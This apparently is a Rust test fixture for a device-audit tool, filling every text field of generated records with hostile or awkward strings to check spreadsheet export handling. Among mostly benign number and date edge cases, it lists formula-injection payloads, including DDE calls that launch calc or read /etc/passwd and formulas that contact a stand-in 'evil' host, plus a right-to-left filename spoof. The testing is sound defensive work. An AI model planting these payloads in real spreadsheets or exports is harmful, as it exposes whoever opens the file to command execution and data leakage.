//! One run with a few hundred hostile texts, each in every place that takes text of others.

use std::collections::BTreeSet;

use slaudit::fact::Evidence;
use slaudit::facts::{License, Udi};
use slaudit::finding::{Problem, Severity};
use slaudit::remedy::Step;
use slaudit::run::Run;
use slaudit::store::Head;

use crate::fleet;

/// What spreadsheets run, convert, round, cut or move.
const TEXTS: &[&str] = &[
    // Formulas, and the old ways to a program.
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|'/c calc'!A1",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "=HYPERLINK(\"http://evil\",\"a,b\")",
    "=IMPORTXML(\"http://evil\",\"//a\")",
    "=WEBSERVICE(\"http://evil\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"1\")",
    "-2+3+cmd|' /C calc'!A0",
    "=1;2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{feff}=1+1",
    "\u{1b}[0m=1+1",
    "=",
    "+",
    "-",
    "@",
    "{=1+1}",
    "%=1",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    ";=1+1;",
    ",=1+1,",
    "|=1+1|",
    // Numbers that are none.
    "0012",
    "00",
    "1E10",
    "1e5",
    "12E3",
    "1E400",
    "0x1F",
    "12345678901234567890",
    "123456789012345678",
    "3.14159265358979323846",
    "1,000",
    "1.000",
    "10.1.2.3",
    "192.0.2.1",
    "1'000",
    "(5)",
    "5 %",
    "50%",
    "$5",
    "\u{20ac}5",
    "+49 30 1234",
    "-1",
    "+1",
    ".5",
    "5.",
    "1/2",
    "1 1/2",
    "\u{bd}",
    "TRUE",
    "false",
    "WAHR",
    "#REF!",
    "#N/A",
    "NaN",
    "Infinity",
    "1_000",
    // Releases, dates and times.
    "17.12.4",
    "16.9.1",
    "1.2",
    "MAR1",
    "mar-1",
    "1-Mar",
    "SEP2",
    "DEC01",
    "Sep 2024",
    "2026-11-24",
    "24.11.2026",
    "11/24/2026",
    "10:15",
    "9 pm",
    "2026-11-24T02:00:00Z",
    "Jun 17 2025 10:01:02 UTC",
    // Quotes, separators, white space.
    "'",
    "'quoted",
    "\"",
    "a\"\"b",
    "a,b;c\td",
    "one\r\ntwo\nthree",
    "  two  blanks  ",
    "\u{a0}x",
    "\u{202e}fdp.exe",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} 12",
    "\u{1f469}\u{200d}\u{1f4bb}\u{1f1e9}\u{1f1ea}",
];

/// The texts, and what surrounds of them.
fn texts() -> Vec<String> {
    let mut all: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).collect();
    all.extend(TEXTS.iter().map(|text| format!("{text}\n")));
    all.extend(TEXTS.iter().map(|text| format!("\u{200b}{text}")));
    all.extend(["=", "0", "x", "\u{e9}", "\u{1f4bb}", "\"", "'"].map(|piece| piece.repeat(400)));
    all
}

/// A device a text, which has it as its name; its other texts are those that follow.
pub(crate) fn run() -> Run {
    let texts = texts();
    let at = |place: usize| texts[place % texts.len()].clone();
    let mut names = BTreeSet::new();
    let mut records = Vec::new();
    for place in 0..texts.len() {
        if !names.insert(at(place).to_lowercase()) {
            continue;
        }
        let mut record = fleet::device(&at(place), &at(place + 1));
        record.device.role = at(place + 2);
        record.device.extra = (3..6).map(|step| at(place + step)).collect();
        let facts = &mut record.reading.facts;
        facts.os_version = fleet::known(at(place + 6));
        facts.serial = fleet::known(at(place + 7));
        facts.model = fleet::known(at(place + 8));
        facts.smart_account = fleet::known(Some(at(place + 9)));
        facts.ntp_synchronized = fleet::known(place % 2 == 0);
        facts.udis = fleet::known(vec![Udi { role: "active".to_owned(), pid: at(place + 10), serial: at(place + 7) }]);
        let status = at(place + 12);
        facts.licenses =
            fleet::known(vec![License { name: at(place + 11), count: 2, status, enforcement: None, kind: None }]);
        fleet::due(&mut record, "2026-12-01T02:00:00");
        record.contact.started = Some(fleet::head().started);
        let mut problem = Problem::new(Severity::ALL[place % 5], at(place + 13), at(place + 14)).about(at(place + 15));
        problem.steps = vec![Step::in_words("test", at(place + 16))];
        problem.days_left = Some(-3);
        problem.evidence = Some(Evidence { command: "show version", line: 12, text: at(place + 17) });
        fleet::find(&mut record, "communication-failing", None, problem);
        records.push(record);
    }
    let extra_columns = ["=1+1", "owner", "MAR1"].map(str::to_owned).into();
    fleet::stored(Head { extra_columns, ..fleet::head() }, &records)
}
